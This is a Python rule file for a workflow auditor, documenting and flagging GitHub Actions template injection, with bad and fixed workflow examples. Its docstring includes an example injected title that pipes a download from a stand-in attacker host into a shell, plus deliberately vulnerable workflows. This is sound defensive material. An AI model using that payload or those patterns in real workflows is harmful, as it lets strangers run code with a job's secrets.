"""A text that anybody may write becomes part of a script.

## Why it matters
Expressions are replaced before the shell reads the script. A title such as `$(curl evil.example | sh)`, a branch name or a commit message
is then code, run with the job's token and secrets.

## Five whys
1. Why did a pull request's title run as a command? It was written into the script before the shell read it.
2. Why? `${{ }}` is replaced in the text of the script, not handed over as a value.
3. Why do quotes not help? The text can close them.
4. Why can a stranger choose it? Titles, bodies, branch names and messages of commits are free text.
5. Why was it not noticed? With harmless titles the step works.

## Fix now
Hand the text over as a variable: `env: {TITLE: "${{ github.event.issue.title }}"}` at the step, and `"$TITLE"` in quotes in the script;
in github-script read `context.payload` or `process.env.TITLE`. Look at past runs for titles with `$(`, backticks or quotes.

## Workaround
Use a field that cannot be chosen freely: the number or the commit instead of title and branch.

## Prevent
Write no `${{ }}` into scripts at all; give jobs the least permissions, and secrets only to steps that need them.

## Validate
Open an issue or pull request with the title `$(id)`: the log shows the text, not the result of the command.

## Bad
```github
on: issues
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./triage '${{ github.event.issue.title }}' # finding
```
```github
on: issue_comment
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/github-script@v7
        with:
          script: console.log('${{ github.event.comment.body }}') # finding
```

## Good
```github
on: issues
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./triage "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
      - run: ./mark ${{ github.event.issue.number }} ${{ contains(github.event.issue.title, 'urgent') }}
```
"""

from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Profile, Severity, rule
from auditor.views.github.faults import Problem
from auditor.views.github.untrusted import untrusted_in_scripts


@rule(
    each=untrusted_in_scripts,
    target="github_workflow github_action",
    severity=Severity.HIGH,
    confidence=Confidence.FIRM,
    profile=Profile.GATE,
    aliases="actionlint:expression/untrusted-input zizmor:template-injection CKV_GHA_2",
)
def check(problem: Problem) -> Iterator[Fail]:
    yield problem.fail
